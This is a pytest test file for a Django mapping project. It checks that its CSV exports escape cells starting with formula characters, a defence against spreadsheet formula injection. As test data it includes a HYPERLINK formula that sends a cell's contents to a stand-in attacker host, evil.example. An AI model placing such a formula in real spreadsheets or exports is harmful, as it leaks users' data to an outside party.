"""Every CSV the map writes is safe to open in a spreadsheet: no cell can run as a formula."""

import csv
import io
import json
import zipfile

import pytest

from ethicalmap.spreadsheets import safe_cell
from tests.factories import OrganisationFactory, TermFactory, VocabularyFactory

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_escaped(start):
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Full Fact", "", None, -0.12, 3, "Open=Rights", "a-b"])
def test_everything_else_is_written_as_it_is(value):
    assert safe_cell(value) == value


def rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.django_db
def test_the_api_csv_escapes_a_formula_in_a_name_and_keeps_negative_numbers(client):
    OrganisationFactory(name=FORMULA, latitude=51.5, longitude=-0.12)
    header, row = rows(client.get("/api/v1/organisations/?format=csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + FORMULA
    assert cells["longitude"] == "-0.12"


@pytest.mark.django_db
def test_the_insights_csv_escapes_a_formula_in_a_term_name(client):
    vocabulary = VocabularyFactory(slug="consequences")
    term = TermFactory(vocabulary=vocabulary, name="@SUM(1+1)")
    OrganisationFactory(terms=[term])
    names = [row[0] for row in rows(client.get("/insights/coverage.csv"))]
    assert "'@SUM(1+1)" in names
    assert "@SUM(1+1)" not in names


@pytest.mark.django_db
def test_the_export_escapes_a_formula_and_its_schema_says_so(client):
    OrganisationFactory(slug="formula", name=FORMULA, latitude=51.5, longitude=-0.12)
    header, row = rows(client.get("/api/v1/export/organisations.csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + FORMULA
    assert cells["longitude"] == "-0.12"
    package = client.get("/api/v1/export/", HTTP_ACCEPT="application/zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(package.streaming_content)))
    descriptor = json.loads(archive.read("datapackage.json"))
    (organisations,) = [r for r in descriptor["resources"] if r["name"] == "organisations"]
    (name,) = [f for f in organisations["schema"]["fields"] if f["name"] == "name"]
    assert "leading '" in name["description"]
